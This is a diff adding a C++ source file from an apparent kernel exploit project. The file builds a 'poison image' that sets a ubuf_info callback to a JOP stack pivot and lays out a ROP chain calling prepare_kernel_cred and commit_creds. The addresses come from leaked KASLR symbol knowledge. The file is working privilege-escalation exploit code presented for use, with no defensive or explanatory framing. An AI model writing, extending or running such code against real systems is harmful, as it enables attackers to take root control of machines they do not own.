@@ -1,0 +1,51 @@
+#include "attack/poison.h"
+
+#include <cstring>
+
+#include "mem/kernel_symbols.h"
+
+namespace spv::attack {
+
+namespace {
+
+void PutU64(std::vector<uint8_t>& image, uint64_t offset, uint64_t value) {
+  std::memcpy(image.data() + offset, &value, 8);
+}
+
+}  // namespace
+
+Result<std::vector<uint8_t>> BuildPoisonImage(const KaslrKnowledge& knowledge,
+                                              uint64_t ubuf_kva) {
+  static_assert(PoisonLayout::kRopOffset == mem::kSymJopPivotConst,
+                "ROP stack must sit where the pivot lands");
+  Result<uint64_t> pivot = knowledge.SymbolAddress(mem::kSymJopStackPivot);
+  if (!pivot.ok()) {
+    return pivot.status();
+  }
+  std::vector<uint8_t> image(PoisonLayout::kImageBytes, 0);
+
+  // ubuf_info: callback -> JOP pivot; ctx carries the image KVA (handy for
+  // debugging; the real attack doesn't need it).
+  PutU64(image, PoisonLayout::kUbufOffset + 0, *pivot);     // callback
+  PutU64(image, PoisonLayout::kUbufOffset + 8, ubuf_kva);   // ctx
+
+  // ROP chain: prepare_kernel_cred -> mov rax,rdi -> commit_creds -> halt.
+  PutU64(image, PoisonLayout::kRopOffset + 0,
+         *knowledge.SymbolAddress(mem::kSymPrepareKernelCred));
+  PutU64(image, PoisonLayout::kRopOffset + 8,
+         *knowledge.SymbolAddress(mem::kSymGadgetMovRdiRax));
+  PutU64(image, PoisonLayout::kRopOffset + 16,
+         *knowledge.SymbolAddress(mem::kSymCommitCreds));
+  PutU64(image, PoisonLayout::kRopOffset + 24, 0);  // terminator
+
+  PutU64(image, PoisonLayout::kMarkerOffset, PoisonLayout::kMarker);
+  return image;
+}
+
+std::vector<uint8_t> BuildMarkerImage() {
+  std::vector<uint8_t> image(PoisonLayout::kImageBytes, 0);
+  PutU64(image, PoisonLayout::kMarkerOffset, PoisonLayout::kMarker);
+  return image;
+}
+
+}  // namespace spv::attack
